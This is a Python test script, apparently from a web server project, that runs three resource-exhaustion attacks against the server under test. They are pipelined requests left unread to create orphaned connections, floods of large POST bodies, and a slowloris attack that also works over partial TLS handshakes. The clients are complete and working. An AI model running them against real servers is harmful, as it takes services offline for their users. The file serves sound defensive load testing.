#!/usr/bin/env python3
"""Clients that try to pin a server's memory or connection slots, for the
website's resource-exhaustion tests (run-website's attack cases).

    attack.py orphans   HOST PORT CONNECTIONS SECONDS
    attack.py bodies    HOST PORT CONNECTIONS BYTES
    attack.py slowloris HOST PORT CONNECTIONS SECONDS [TLS_PORT [SOURCE]]

orphans: each connection pipelines 150 requests, the last with
`Connection: close`, and never reads, with a small receive buffer: the
server queues every response (about 170 KB, within its send buffer), and
closes; the connection is an orphan in FIN-WAIT-1 holding what it queued
behind a zero window that the client's kernel keeps advertising (it
answers every probe). The sockets stay open for SECONDS, then close.

bodies: CONNECTIONS POSTs, twenty at a time, each with a body of BYTES
sent as fast as the server takes it, half with Content-Length and half
chunked; each reads its answer. The server should answer without storing
the bodies.

slowloris: keeps CONNECTIONS connections open for SECONDS, each sending a
request head one byte at a time (or, on TLS_PORT, the start of a
ClientHello) and reopening any the server closes, so that every slot the
server has is always taken by a slow client; from SOURCE (an address of
this host) when given, as an attacker has addresses of its own.

Each prints one line of figures and exits 0, or 1 with a reason.
"""
import concurrent.futures
import select
import socket
import sys
import time


def connect(host, port, rcvbuf=None, timeout=5, source=None):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if source:
        s.bind((source, 0))
    if rcvbuf:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    s.settimeout(timeout)
    s.connect((host, port))
    return s


def orphans(host, port, n, seconds):
    request = b"GET /docs/index.html HTTP/1.1\r\nHost: x\r\n\r\n"
    last = b"GET /docs/index.html HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
    held = []
    sent = 0
    for _ in range(n):
        try:
            s = connect(host, port, rcvbuf=4096)
        except OSError:
            continue
        s.setblocking(False)
        data = request * 149 + last
        off = 0
        # Push requests until the server stops taking them (its receive
        # window shuts once it is blocked writing responses we never read).
        deadline = time.time() + 2
        while off < len(data) and time.time() < deadline:
            try:
                off += s.send(data[off:])
            except BlockingIOError:
                select.select([], [s], [], 0.05)
            except OSError:
                break
        sent += off
        held.append(s)
    end = time.time() + seconds
    while time.time() < end:
        time.sleep(0.5)
    for s in held:
        s.close()
    print("orphans: %d connections held %ds, %d request bytes sent, nothing read" % (len(held), seconds, sent))
    return 0 if held else 1


def read_status(s):
    data = b""
    try:
        while b"\r\n" not in data:
            c = s.recv(4096)
            if not c:
                break
            data += c
    except OSError:
        pass
    return data.split(b"\r\n", 1)[0]


def one_body(host, port, size, chunked):
    """Sends one POST with a body of `size`; returns its status line."""
    chunk = b"b" * 65536
    try:
        s = connect(host, port, timeout=10)
    except OSError:
        return b""
    if chunked:
        s.sendall(b"POST /index.html HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
    else:
        s.sendall(b"POST /index.html HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % size)
    left = size
    pending = b""
    s.setblocking(False)
    deadline = time.time() + 10
    while (left > 0 or pending) and time.time() < deadline:
        if not pending:
            take = min(left, len(chunk))
            pending = (b"%x\r\n" % take + chunk[:take] + b"\r\n") if chunked else chunk[:take]
            left -= take
        try:
            pending = pending[s.send(pending):]
        except BlockingIOError:
            r, _, _ = select.select([s], [s], [], 0.1)
            if r:
                break  # the server answered already
        except OSError:
            break  # the server closed: it answered and stopped reading
    s.setblocking(True)
    s.settimeout(10)
    line = read_status(s)
    s.close()
    return line


def bodies(host, port, n, size):
    # Twenty at a time, half with Content-Length and half chunked.
    with concurrent.futures.ThreadPoolExecutor(max_workers=20) as pool:
        lines = list(pool.map(lambda i: one_body(host, port, size, i % 2 == 1), range(n)))
    statuses = {}
    for line in lines:
        if line.startswith(b"HTTP/1.1 "):
            code = line.split(b" ")[1].decode()
            statuses[code] = statuses.get(code, 0) + 1
    answered = sum(statuses.values())
    print("bodies: %d of %d POSTs of %d bytes answered: %s" % (answered, n, size, statuses))
    if answered != n:
        print("bodies: a POST got no answer")
        return 1
    return 0


def slowloris(host, port, n, seconds, tls_port=None, source=None):
    head = b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"s" * 10000
    hello = b"\x16\x03\x01\x00\xc8\x01\x00\x00\xc4\x03\x03" + b"\x00" * 189
    conns = {}  # socket -> (payload, offset)
    opened = closed = 0
    end = time.time() + seconds

    def open_one(i):
        nonlocal opened
        target = tls_port if tls_port and i % 2 else port
        try:
            s = connect(host, target, timeout=2, source=source)
        except OSError:
            return
        s.setblocking(False)
        conns[s] = [hello if target == tls_port else head, 0]
        opened += 1

    for i in range(n):
        open_one(i)
    i = n
    while time.time() < end:
        for s in list(conns):
            payload, off = conns[s]
            try:
                if s.recv(4096) == b"":
                    raise OSError("closed")
            except BlockingIOError:
                pass
            except OSError:
                s.close()
                del conns[s]
                closed += 1
                continue
            if off < len(payload):
                try:
                    s.send(payload[off:off + 1])
                    conns[s][1] = off + 1
                except OSError:
                    pass
        while len(conns) < n and time.time() < end:
            open_one(i)
            i += 1
        time.sleep(0.2)
    for s in conns:
        s.close()
    print("slowloris: %d slow connections opened, %d closed by the server" % (opened, closed))
    return 0 if opened >= n else 1


def main(argv):
    mode = argv[1]
    host, port = argv[2], int(argv[3])
    if mode == "orphans":
        return orphans(host, port, int(argv[4]), int(argv[5]))
    if mode == "bodies":
        return bodies(host, port, int(argv[4]), int(argv[5]))
    if mode == "slowloris":
        return slowloris(host, port, int(argv[4]), int(argv[5]), int(argv[6]) if len(argv) > 6 else None,
                         argv[7] if len(argv) > 7 else None)
    print("attack.py: unknown mode %s" % mode)
    return 2


if __name__ == "__main__":
    sys.exit(main(sys.argv))
